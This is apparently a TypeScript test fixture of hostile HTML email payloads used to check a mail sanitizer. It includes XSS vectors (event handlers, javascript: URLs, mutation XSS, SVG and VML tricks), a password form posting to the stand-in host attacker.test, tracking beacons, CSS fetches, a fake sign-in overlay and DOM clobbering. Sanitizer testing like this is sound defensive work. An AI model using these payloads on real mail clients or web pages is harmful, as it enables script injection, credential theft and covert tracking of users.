/**
 * Hostile HTML mail, one or more per class of SECURITY.md §3, shared by the sanitizer's unit tests
 * (happy-dom) and the end-to-end test that delivers them over SMTP and opens them in Chromium.
 * Each payload, if it worked, would run script (`window.__pwned`, a dialog) or fetch from
 * attacker.test before the user asked for images.
 */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  'event handlers': `<img src=x onerror="window.top.__pwned=1;alert(1)"><body onload=alert(1)><details open ontoggle=alert(1)><summary>x</summary></details><video><source onerror=alert(1)></video>`,
  'script element': `<p>hi</p><script>window.top.__pwned=1</script><script src="https://attacker.test/x.js"></script>`,
  'script urls': `<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href=" &#106;avascript:alert(1)">c</a><a href="java&#x09;script:alert(1)">d</a><a href="javascript&colon;alert(1)">e</a><a href="vbscript:msgbox(1)">f</a><area href="javascript:alert(1)">`,
  'data urls': `<a href="data:text/html,<script>alert(1)</script>">x</a><embed src="data:image/svg+xml,<svg onload=alert(1)>"><object data="data:application/xhtml+xml,x"></object>`,
  'svg and smil': `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/><animate attributeName=href values=javascript:alert(1) /><set attributeName=href to=javascript:alert(1) /><g onload=alert(1)/><feImage href="https://attacker.test/fe.png"/><image href="https://attacker.test/svg.png"/></svg>`,
  'namespace confusion': `<svg xmlns="&quot; onload=&quot;alert(1)"></svg><math><mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>`,
  mathml: `<math href="javascript:alert(1)"><mi>x</mi></math>`,
  mxss: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><svg><style><//><body onload=alert(1)></style></svg><textarea><p style="x:</textarea><img src=x onerror=alert(1)>"></textarea><!--><img src=x onerror=alert(1)>--><table><tr><td><style></td><img src=x onerror=alert(1)></style>`,
  'base and meta': `<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test/refresh"><a href="../relative">rel</a>`,
  forms: `<form action="https://attacker.test/steal"><input type=password name=p><button formaction="javascript:alert(1)">go</button><input type=image src="https://attacker.test/input.png"></form>`,
  'remote beacons': `<img src="https://attacker.test/pixel.gif" width=1 height=1><img srcset="https://attacker.test/srcset.png 1x"><picture><source srcset="https://attacker.test/pic.png"></picture><video poster="https://attacker.test/poster.png"></video><table background="https://attacker.test/bg.png"><tr><td background="https://attacker.test/td.png">x</td></tr></table><link rel=stylesheet href="https://attacker.test/s.css"><link rel=prefetch href="https://attacker.test/pf"><a ping="https://attacker.test/ping" href="https://example.org/">link</a>`,
  'css fetches': `<style>@import url(https://attacker.test/import.css);body{background:url(https://attacker.test/body.png)}.a{background-image:image-set("https://attacker.test/set.png" 1x)}@font-face{font-family:x;src:url(https://attacker.test/font.woff)}.b{cursor:url(https://attacker.test/cur.png),auto}.c{background:u\\72l(https://attacker.test/esc.png)}.d{--x:url(https://attacker.test/var.png);background:var(--x)}</style><div class=a style="background:url('https://attacker.test/inline.png')">x</div><div style="background:u\\72l(https://attacker.test/inline-esc.png)">y</div>`,
  'css script': `<div style="width:expression(alert(1))">a</div><div style="behavior:url(x.htc)">b</div><div style="-moz-binding:url(https://attacker.test/x.xml#x)">c</div>`,
  overlay: `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">Session expired: sign in</div><div style="position:/**/fixed !important">x</div>`,
  'dangling markup': `<img src="https://attacker.test/?q=<b>secret</b> and more`,
  'dom clobbering': `<form id=x><input name=y></form><img name=getElementById><a id=defaultView href="https://example.org/">c</a>`,
  'office vml': `<!--[if mso]><v:rect onload=alert(1)><v:fill src="javascript:alert(1)"/></v:rect><![endif]--><v:image src="javascript:alert(1)"></v:image><o:p onmouseover=alert(1)>x</o:p>`,
  'iframe srcdoc': `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe><iframe src="https://attacker.test/frame"></iframe>`,
};
